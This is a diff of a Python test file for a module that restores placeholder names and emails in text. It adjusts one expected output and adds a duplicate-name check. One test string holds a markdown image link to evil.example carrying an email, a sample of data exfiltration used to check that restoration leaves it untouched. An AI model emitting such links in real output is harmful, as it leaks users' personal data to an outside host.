@@ -15,7 +15,7 @@ from scripts.bundle_restoring import BEGIN, END, TARGETS, place
 
 NAME, MAIL = 'Ann "Al" Ek', "ann@example.com"
 TEXT = "Dear Films Pair, is maybe@site.net yours? Films Pairs: https://x.example/?q=Films%20Pair"
-RESTORED = f"Dear {NAME}, is {MAIL} yours? Films Pairs: https://x.example/?q=Films%20Pair"
+RESTORED = f"Dear {NAME}, is {MAIL} yours? {NAME}s: https://x.example/?q=Films%20Pair"
 ARGUMENTS = {"to": "Films Pair", "size": "smoll", "text": "for Films Pair\nmaybe@site.net"}
 RAW_ARGUMENTS = {"to": NAME, "size": "small", "text": f"for {NAME}\n{MAIL}"}
 
@@ -135,3 +135,14 @@ def test_the_copies_work_with_what_their_files_import(path: Any) -> None:
     assert back.restore_content(TEXT) == RESTORED
     hidden = "![x][1]\n\n[1]: https:/\\/evil.example/?q=Films&#47;&#47;maybe@site.net"
     assert back.restore_content(hidden) == hidden
+
+
+@pytest.mark.parametrize("path", TARGETS, ids=lambda path: path.stem)
+def test_no_name_of_a_copy_is_a_name_of_its_file(path: Any) -> None:
+    names = []
+    for node in ast.parse(path.read_text("utf-8")).body:
+        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef):
+            names.append(node.name)
+        elif isinstance(node, ast.Assign):
+            names += [target.id for target in node.targets if isinstance(target, ast.Name)]
+    assert len(names) == len(set(names))
